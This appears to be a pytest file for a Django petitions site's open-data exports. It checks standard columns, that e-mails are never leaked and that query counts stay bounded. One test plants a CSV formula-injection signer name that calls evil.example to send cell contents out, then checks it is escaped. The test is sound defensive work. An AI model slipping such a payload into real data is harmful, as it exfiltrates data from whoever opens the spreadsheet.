"""Open data in the national columns (34-petitions.csv, 34-petitions-signatures.csv); never e-mails."""
import csv
import io
import json

import pytest

from petitions.models import Petition, Signature
from tests.factories import UserFactory
from tests.open_data_standard import standard_file

from .conftest import make_petition

pytestmark = pytest.mark.django_db


def standard_columns(name: str, fallback: list[str]) -> list[str]:
    path = standard_file(name)
    if not path.exists():
        return fallback
    with path.open(encoding="utf-8") as handle:
        return [row["name"] for row in csv.DictReader(handle)]


def read(client, url):
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def test_petitions_csv_and_json_have_the_standard_columns(client, resident, category, petition_settings,
                                                         petition_index):
    from petitions.opendata import PETITION_COLUMNS

    petition = make_petition(author=resident, category=category, signatures=2, status=Petition.Status.ANSWERED,
                             answer_text="Підтримано", answer_outcome="supported")
    make_petition(author=resident, category=category, status=Petition.Status.DRAFT, title="Чернетка")
    assert PETITION_COLUMNS == standard_columns("34-petitions.csv", PETITION_COLUMNS)
    text = read(client, "/api/v3/petitions/open-data/petitions.csv")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert list(rows[0]) == PETITION_COLUMNS
    assert len(rows) == 1
    row = rows[0]
    assert row["uid"] == petition.uid and row["count"] == "2" and row["status"] == "з відповіддю"
    assert row["creator"] == resident.full_name and row["url"].startswith("http")
    assert row["answerText"] == "Підтримано"
    data = json.loads(read(client, "/api/v3/petitions/open-data/petitions.json"))
    assert data[0]["uid"] == petition.uid and list(data[0]) == PETITION_COLUMNS


def test_signatures_open_data_has_names_and_dates_never_emails(client, resident, category, petition_settings,
                                                              petition_index):
    from petitions.opendata import SIGNATURE_COLUMNS

    petition = make_petition(author=resident, category=category, signatures=3)
    invalid = UserFactory()
    Signature.objects.create(petition=petition, user=invalid, name="Бот Ботович", email=invalid.email,
                             is_valid=False)
    assert SIGNATURE_COLUMNS == standard_columns("34-petitions-signatures.csv", SIGNATURE_COLUMNS)
    text = read(client, "/api/v3/petitions/open-data/signatures.csv")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert [row["voterName"] for row in rows] == list(petition.signatures.filter(is_valid=True)
                                                      .values_list("name", flat=True))
    assert {row["motionUid"] for row in rows} == {petition.uid}
    as_json = read(client, "/api/v3/petitions/open-data/signatures.json")
    for email in Signature.objects.values_list("email", flat=True):
        assert email not in text and email not in as_json
    assert "Бот Ботович" not in text


def test_open_data_query_count_does_not_grow(client, resident, category, petition_settings, petition_index,
                                             django_assert_max_num_queries):
    make_petition(author=resident, category=category, signatures=3)
    read(client, "/api/v3/petitions/open-data/signatures.csv")
    make_petition(author=resident, category=category, signatures=60)
    with django_assert_max_num_queries(14):
        read(client, "/api/v3/petitions/open-data/signatures.csv")
        read(client, "/api/v3/petitions/open-data/petitions.csv")


def test_a_signer_named_like_a_formula_is_text_in_the_csv_and_unchanged_in_json(client, resident, category,
                                                                                petition_settings, petition_index):
    petition = make_petition(author=resident, category=category)
    signer = UserFactory()
    name = '=HYPERLINK("http://evil.example/?"&A1,"Підпис")'
    Signature.objects.create(petition=petition, user=signer, name=name, email=signer.email)
    rows = list(csv.DictReader(io.StringIO(read(client, "/api/v3/petitions/open-data/signatures.csv")
                                           .lstrip("\ufeff"))))
    assert [row["voterName"] for row in rows] == ["'" + name]
    assert json.loads(read(client, "/api/v3/petitions/open-data/signatures.json"))[0]["voterName"] == name
